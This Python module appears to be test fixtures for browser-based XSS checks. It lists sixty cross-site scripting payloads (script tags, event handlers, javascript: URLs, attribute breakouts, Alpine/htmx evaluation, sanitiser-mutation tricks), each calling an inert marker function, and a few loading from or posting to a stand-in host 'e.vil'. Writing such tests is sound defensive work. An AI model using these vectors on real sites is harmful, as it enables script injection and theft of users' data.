"""Sixty texts that would run, frame, send or load something where they were shown as markup.

Each fits where least room is, in a saved view's name (60 characters), and says its number; `xhit` is a word that no
template has, so wherever it stands it came from somebody's text.
"""

from __future__ import annotations

MARK = "xhit"
HIT = f"{MARK}(%d)"  # a call of window.xhit, which a browser's test can listen to

# By the place they break out of. `~`: the call.
_TEXTS = (
    # --- as an element
    "<script>~</script>",
    "<SCRIPT SRC=data:text/javascript,~></SCRIPT>",
    "<script/x type=module>~</script>",
    "<scr<script>ipt>~</scr</script>ipt>",
    "<script>~//",
    "<svg><script>~</script></svg>",
    "<img src=x onerror=~>",
    '<IMG """><SCRIPT>~</SCRIPT>">',
    "<svg onload=~>",
    "<svg/onload=~//",
    "<body onload=~>",
    "<input autofocus onfocus=~>",
    "<details open ontoggle=~>x</details>",
    "<video><source onerror=~></video>",
    "<p onclick=~ style=position:fixed;inset:0>x</p>",
    "<a onmouseover=~>x</a>",
    '<iframe srcdoc="<script>~</script>"></iframe>',
    "<iframe src=javascript:~></iframe>",
    "<object data=javascript:~></object>",
    "<embed src=javascript:~>",
    "<form action=javascript:~><button>x</button></form>",
    "<button formaction=javascript:~>x</button>",
    "<math href=javascript:~>x</math>",
    "<svg><a xlink:href=javascript:~><text>x</text></a>",
    "<svg><animate onbegin=~ attributeName=x dur=1s>",
    "<base href=//e.vil/~/>",
    "<meta http-equiv=refresh content=0;url=javascript:~>",
    "<link rel=stylesheet href=//e.vil/~>",
    "<style>@import '//e.vil/~';</style>",
    "<style onload=~></style>",
    # --- out of an attribute, a field or another element
    '" onmouseover="~',
    "' onmouseover='~",
    '"><img src=x onerror=~>',
    "'><svg onload=~>",
    'x" autofocus onfocus="~" y="',
    "--><img src=x onerror=~>",
    "<!--><img src=x onerror=~>-->",
    "]]><script>~</script>",
    "</textarea><script>~</script>",
    "</title><script>~</script>",
    "</script><script>~</script>",
    "</style><img src=x onerror=~>",
    "</option></select><img src=x onerror=~>",
    "</template><img src=x onerror=~>",
    "</form><form action=//e.vil/~><button>",
    # --- as an address
    "javascript:~",
    " JaVaScRiPt:~",
    "java\tscript:~",
    "data:text/html,<script>~</script>",
    '<a href="javascript:~">x</a>',
    '<a href="java&#10;script:~">x</a>',
    "<a href=&#106;avascript:~>x</a>",
    # --- as a template or script that is evaluated (Alpine's and htmx's attributes are, by the theme)
    "<div x-data x-init=~>x</div>",
    "<div x-data @click=~>x</div>",
    "<div hx-on:load=~ hx-get=/ hx-trigger=load>x</div>",
    "');~;//",
    # --- that a sanitiser may turn into markup
    "<noscript><p id='</noscript><img src=x onerror=~>'>",
    "<math><mtext><table><style><img src=x onerror=~>",
    "&lt;img src=x onerror=~&gt;",
    "\uff1cscript\uff1e~\uff1c/script\uff1e",
)
PAYLOADS = tuple(text.replace("~", HIT % number) for number, text in enumerate(_TEXTS))
